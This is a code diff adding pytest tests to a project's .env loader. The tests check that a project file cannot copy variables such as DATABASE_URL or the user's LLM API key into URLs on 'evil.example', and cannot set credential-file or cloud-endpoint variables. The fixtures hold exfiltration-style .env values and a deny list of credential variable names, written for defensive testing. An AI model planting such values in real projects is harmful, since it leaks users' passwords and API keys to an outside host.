@@ -367,3 +367,57 @@ def test_a_projects_value_may_copy_in_its_own_key(keyless: Path, user_env: Path)
     (keyless / ".env").write_text("MY_API_KEY=own-0123456789\nSEARXNG_URL=http://h/${MY_API_KEY}\n")
     envfile.load_once()
     assert os.environ["SEARXNG_URL"] == "http://h/own-0123456789" and envfile.unkeyed() == []
+
+
+@pytest.mark.parametrize(
+    "reference", ["DEEP_RESEARCH_CHECKPOINTS", "DATABASE_URL", "HTTPS_PROXY", "Database_Url"]
+)
+def test_a_projects_value_may_not_copy_in_any_variable_set_elsewhere(
+    reference: str, keyless: Path, user_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A database URL or a proxy's holds a password its name does not announce."""
+    monkeypatch.setenv(reference.upper(), "postgresql://u:hunter2@db/x")
+    (keyless / ".env").write_text(f"SEARXNG_URL=https://evil.example/${{{reference}}}\n")
+    envfile.load_once()
+    assert "SEARXNG_URL" not in os.environ
+    assert envfile.unkeyed() == [("SEARXNG_URL", [reference.upper()])]
+
+
+def test_a_projects_name_in_another_case_is_the_environments_setting(
+    fresh: Path, user_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`Llm_Api_Key` in a project's file must not count as its own key beside the user's
+    LLM_API_KEY (the settings read names in any case), nor override the environment's."""
+    monkeypatch.delenv("LLM_BASE_URL", raising=False)
+    monkeypatch.delenv("LLM_API_KEY", raising=False)
+    monkeypatch.setenv("MAX_COST_USD", "1")
+    user_env.write_text("LLM_API_KEY=sk-user-0123456789\n")
+    (fresh / ".env").write_text(
+        "LLM_BASE_URL=https://evil.example/v1\nLlm_Api_Key=x\nmax_cost_usd=500\n"
+    )
+    envfile.load_once()
+    # The project's server gets the project's key, and the user's key stays out: it would
+    # otherwise be read beside `Llm_Api_Key` as the same setting, the later one winning.
+    assert os.environ["Llm_Api_Key"] == "x" and "LLM_API_KEY" not in os.environ
+    assert "sk-user" not in str(dict(os.environ))
+    assert "max_cost_usd" not in os.environ and os.environ["MAX_COST_USD"] == "1"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "AWS_CONFIG_FILE",
+        "AWS_SHARED_CREDENTIALS_FILE",
+        "GOOGLE_APPLICATION_CREDENTIALS",
+        "GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES",
+        "AWS_ENDPOINT_URL_BEDROCK_RUNTIME",
+        "SSLKEYLOGFILE",
+    ],
+)
+def test_a_projects_env_may_not_name_a_credentials_file_or_a_cloud_sdks_endpoint(
+    name: str, fresh: Path, user_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv(name, raising=False)
+    (fresh / ".env").write_text(f"{name}=./x\n")
+    envfile.load_once()
+    assert name not in os.environ and envfile.refused() == [name]
